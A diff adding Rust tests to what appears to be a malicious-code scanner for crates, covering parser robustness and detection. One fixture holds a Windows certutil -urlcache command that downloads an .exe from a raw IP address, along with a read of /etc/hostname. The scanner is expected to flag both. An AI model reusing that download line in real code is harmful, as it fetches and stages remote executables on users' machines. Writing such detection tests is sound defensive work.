@@ -502,3 +502,64 @@ fn windows_import_library_is_info_but_a_static_library_of_code_is_warn() {
     assert_eq!(level("lib/k32.lib"), Some(Level::Info), "{bins:#?}");
     assert_eq!(level("lib/libevil.a"), Some(Level::Warn), "{bins:#?}");
 }
+
+#[test]
+fn deep_nesting_and_long_chains_do_not_crash_the_scanner() {
+    let deep = format!(
+        "fn f() {{ let _ = {}1{}; }}\n",
+        "(".repeat(20_000),
+        ")".repeat(20_000)
+    );
+    let long = format!("fn g() -> u32 {{ {}1 }}\n", "1 + ".repeat(1_000_000));
+    let parsed = format!("fn h() -> u32 {{ {}1 }}\n", "1 + ".repeat(15_000));
+    let inv = scan(&[
+        ("src/lib.rs", deep.as_bytes()),
+        ("src/long.rs", long.as_bytes()),
+        ("src/parsed.rs", parsed.as_bytes()),
+    ]);
+    let guarded: Vec<&str> = signals(&inv, SignalCode::ParseError, Level::Info)
+        .iter()
+        .map(|s| s.path.as_str())
+        .collect();
+    assert_eq!(guarded, ["src/lib.rs", "src/long.rs"]);
+    assert_eq!((inv.files.rust, inv.files.rust_unparsed), (3, 2));
+}
+
+#[test]
+fn cfg_if_wrapped_certutil_download_and_literal_paths() {
+    let lib = r#"
+cfg_if::cfg_if! {
+    if #[cfg(windows)] {
+        pub fn fetch() {
+            let _ = std::process::Command::new("certutil")
+                .args(["-urlcache", "-f", "http://45.13.7.9/a.exe", "a.exe"])
+                .status();
+        }
+    } else {
+        pub fn fetch() {}
+    }
+}
+
+pub fn read() -> String {
+    std::fs::read_to_string("/etc/hostname").unwrap_or_default() + &std::fs::read_to_string("data.txt").unwrap_or_default()
+}
+"#;
+    let inv = scan(&[("src/lib.rs", lib.as_bytes())]);
+    let dl = expect(&inv, SignalCode::ShellDownload, Level::Warn);
+    assert!(
+        dl.reason.contains("certutil") || dl.reason.contains("urlcache"),
+        "{dl:?}"
+    );
+    assert!(signals(&inv, SignalCode::AddressLiteral, Level::Warn)
+        .iter()
+        .any(|s| s.line == 6));
+    assert!(inv.capabilities[&CapabilityKind::Process]
+        .details
+        .contains(&"certutil".to_owned()));
+    let fs = &inv.capabilities[&CapabilityKind::Fs].details;
+    assert!(
+        fs.contains(&"/etc/hostname (outside the crate)".to_owned()),
+        "{fs:?}"
+    );
+    assert!(fs.contains(&"data.txt".to_owned()), "{fs:?}");
+}
